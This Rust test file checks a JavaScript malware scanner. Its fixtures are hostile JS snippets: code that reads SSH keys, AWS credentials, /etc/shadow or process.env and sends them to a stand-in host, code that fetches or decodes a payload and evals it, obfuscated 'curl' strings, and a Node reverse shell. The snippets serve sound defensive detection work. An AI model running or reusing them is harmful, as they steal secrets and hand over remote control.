use super::*;
use crate::scan::act::{Code, Taint};

fn acts(text: &str) -> Acts {
    read("x.js", text).unwrap_or_else(|error| panic!("{error}: {text}"))
}

fn executes(text: &str) -> Option<Code> {
    acts(text).seen.into_iter().find_map(|seen| match seen.act {
        Act::Executes(code) => Some(code),
        _ => None,
    })
}

fn sends(text: &str) -> Taint {
    let sent = acts(text).seen.into_iter().find_map(|seen| match seen.act {
        Act::Network { sends, .. } if sends.is_secret() => Some(sends),
        _ => None,
    });
    sent.unwrap_or_default()
}

fn inner(text: &str) -> Vec<String> {
    acts(text).inner.into_iter().map(|inner| inner.text).collect()
}

#[test]
fn credentials_flow_to_hosts() {
    for text in [
        "const fs = require('fs');\nconst k = fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa');\nfetch('https://a.example', { method: 'POST', body: k });",
        "import { readFileSync as r } from 'node:fs';\nimport axios from 'axios';\nconst send = (d) => axios.post('https://a.example', d);\nsend(r(`${process.env.HOME}/.aws/credentials`, 'utf8'));",
        "const https = require('https'); const fs = require('fs');\nconst q = https.request({ hostname: 'a.example' });\nq.write(fs.readFileSync('/etc/shadow')); q.end();",
        "import fs from 'fs/promises';\nasync function go(): Promise<void> { const d = await fs.readFile('/x/.ssh/id_rsa'); await fetch('https://a.example', { body: JSON.stringify({ d }) }); }\ngo();",
    ] {
        assert!(sends(text).credential.is_some(), "{text}");
    }
    assert!(
        sends("fetch('https://a.example', { method: 'POST', body: JSON.stringify(process.env) })")
            .environment
    );
    assert!(
        sends(
            "const e = { ...process.env }; fetch('https://a.example', { body: JSON.stringify(e) })"
        )
        .environment
    );
}

#[test]
fn logging_in_is_no_theft() {
    let text = "const k = process.env.API_KEY;\nfetch('https://a.example', { headers: { Authorization: `Bearer ${k}` } });";
    assert!(!sends(text).is_secret());
    assert!(!sends("require('child_process').spawn('ls', [], { env: process.env })").is_secret());
}

#[test]
fn code_from_elsewhere() {
    let fetched = Some(Code::Fetched("https://a.example/x".into()));
    assert_eq!(
        executes("const r = await fetch('https://a.example/x'); eval(await r.text());"),
        fetched
    );
    assert_eq!(executes("eval(atob('YWxlcnQoMSk='))"), Some(Code::Decoded));
    assert_eq!(
        executes("new Function(Buffer.from('YWxlcnQoMSk=', 'base64').toString())()"),
        Some(Code::Decoded)
    );
    assert_eq!(executes("globalThis['ev' + 'al'](x)"), Some(Code::Computed));
    assert_eq!(executes("console.log('eval')"), None);
}

#[test]
fn constants_are_folded() {
    let run =
        |code: &str| inner(&format!("const {{ exec }} = require('child_process');\nexec({code});"));
    assert_eq!(run("'cu' + 'rl x'"), ["curl x"]);
    assert_eq!(run("String.fromCharCode(99, 117, 114, 108)"), ["curl"]);
    assert_eq!(run("'lruc'.split('').reverse().join('')"), ["curl"]);
    assert_eq!(run("['curl', 'x'].join(' ')"), ["curl x"]);
    assert_eq!(run("Buffer.from('6375726c', 'hex').toString()"), ["curl"]);
    assert_eq!(run("'\\x63url x'"), ["curl x"]);
}

#[test]
fn shells_for_others() {
    let text = "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(9, '1.2.3.4', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });";
    assert!(acts(text).seen.iter().any(|seen| seen.act == Act::ReverseShell));
}

#[test]
fn what_nests_without_end_is_refused() {
    for text in ["(", "[", "!", "a=>", "if(a)", "a?", "{", "`${", "-", "new ", "await "] {
        assert!(read("x.js", &text.repeat(50_000)).is_err(), "{text}");
    }
}
